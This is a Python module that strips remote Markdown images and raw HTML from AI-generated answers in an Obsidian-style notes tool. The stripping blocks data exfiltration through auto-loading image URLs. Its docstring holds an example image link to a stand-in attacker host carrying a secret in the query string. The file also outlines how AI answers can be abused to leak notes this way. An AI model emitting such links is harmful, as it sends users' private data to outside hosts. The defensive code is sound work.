"""Take out of an answer what would call an address as soon as it is shown: that can carry notes away."""

import re
from collections.abc import Iterator
from typing import Final

from knapper.vault import links, parser

_MAX_HOST: Final = 100
_MOST_PASSES: Final = 20
"""After which an answer that still holds something was made to be taken apart, and no image of it stays."""
_MASKS: Final = re.compile(rb"%%|\$|\A(?:\xef\xbb\xbf)?---")
"""What begins comments, maths and properties in Obsidian, and is plain text to others that show Markdown."""
_HOST: Final = re.compile(r"\s*[/\\]{2}")
"""What begins an address without a scheme: browsers take each backslash for a slash."""
Edit = tuple[int, int, bytes]


def defused(answer: str) -> tuple[str, tuple[str, ...]]:
    """Turn images that stand elsewhere into plain mentions, and HTML into text; code stays as it is.

    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. What is left is looked at
    again, since it can be an image once something inside or beside it is gone.

    Returns:
        The answer, and what was done to it, for the person.
    """
    data = answer.encode()
    notes: dict[str, None] = {}
    for _ in range(_MOST_PASSES):
        edits = _outermost({*_edits(data, notes), *_edits(data, notes, _MASKS.sub(_bare, data))})
        if not edits:
            return data.decode(errors="replace"), tuple(notes)
        for start, stop, text in edits:
            data = data[:start] + text + data[stop:]
    data = data.replace(b"<", b"&lt;").replace(b"![", b"!\\[")
    return data.decode(errors="replace"), tuple(notes)


def _edits(data: bytes, notes: dict[str, None], shown: bytes | None = None) -> Iterator[Edit]:
    """Yield what has to go.

    Args:
        data: The answer.
        notes: What is told of it is added here.
        shown: The answer as others read it, of the same length; None for the same.
    """
    outline = parser.parse_note(data if shown is None else shown)
    for link in outline.links:
        if data[link.start : link.start + 1] == b"!" and _is_elsewhere(link.target):
            host = _host(link.target)
            notes[f"an image from {host} was left out of the answer"] = None
            yield link.start, link.stop, f"[image left out: {host}]".encode()
    for start, stop in outline.code_spans:
        if data[start : start + 1] == b"<":
            yield start, stop, data[start:stop].replace(b"<", b"&lt;")


def _is_elsewhere(target: str) -> bool:
    return links.is_external(target) or _HOST.match(target) is not None


def _outermost(edits: set[Edit]) -> list[Edit]:
    """List the edits that lie in no other one, the last first."""
    kept: list[Edit] = []
    for edit in sorted(edits, key=lambda one: (one[0], -one[1])):
        if not kept or edit[0] >= kept[-1][1]:
            kept.append(edit)
    return kept[::-1]


def _bare(found: re.Match[bytes]) -> bytes:
    return b"*" * len(found[0]) if found[0].endswith(b"---") else b"z" * len(found[0])


def _host(target: str) -> str:
    host = target.replace("\\", "/").partition("//")[2].partition("/")[0].partition("?")[0].rpartition("@")[2]
    return re.sub(r"[^\w.:-]", "", host[:_MAX_HOST] or target[:20])
